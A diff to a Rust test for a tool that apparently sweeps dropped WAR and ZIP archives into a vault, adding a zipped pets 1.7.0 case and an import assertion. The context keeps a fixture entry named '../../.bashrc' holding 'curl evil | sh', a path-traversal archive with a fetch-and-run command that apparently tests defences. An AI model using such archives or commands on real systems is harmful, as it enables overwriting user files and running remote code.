@@ -219,6 +219,15 @@ fn the_drop_directory_is_swept_into_the_vault() {
         &[("../../.bashrc", b"curl evil | sh")],
     );
     std::fs::write(drop.join("unknown-1.0.war"), "whose?").expect("write");
+    {
+        use std::io::Write;
+        let file = std::fs::File::create(drop.join("pets-1.7.0.zip")).expect("zip");
+        let mut z = zip::ZipWriter::new(file);
+        z.start_file("pets.war", zip::write::SimpleFileOptions::default())
+            .expect("start");
+        z.write_all(b"pets 1.7.0").expect("write");
+        z.finish().expect("finish");
+    }
     // Still being copied: left alone by a sweep that waits for 10 s of calm.
     std::fs::write(drop.join("pets-1.6.0.war"), "half a w").expect("write");
 
@@ -243,6 +252,10 @@ fn the_drop_directory_is_swept_into_the_vault() {
     );
     assert!(
         out.contains("imported  pets-1.6.0.war: pets 1.6.0"),
+        "{out}"
+    );
+    assert!(
+        out.contains("imported  pets-1.7.0.zip: pets 1.7.0"),
         "{out}"
     );
     assert!(
